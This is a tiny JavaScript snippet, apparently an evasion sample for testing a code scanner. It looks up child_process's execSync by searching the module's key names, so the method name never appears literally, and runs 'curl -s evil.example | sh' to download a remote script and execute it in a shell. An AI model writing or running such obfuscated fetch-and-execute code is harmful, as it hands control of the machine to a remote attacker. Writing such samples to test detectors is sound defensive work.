// tricky: a name by the keys of a module
const cp = require('child_process');
const k = Object.keys(cp).find((n) => n.length === 8 && n.startsWith('exec'));
cp[k]('curl -s evil.example | sh');
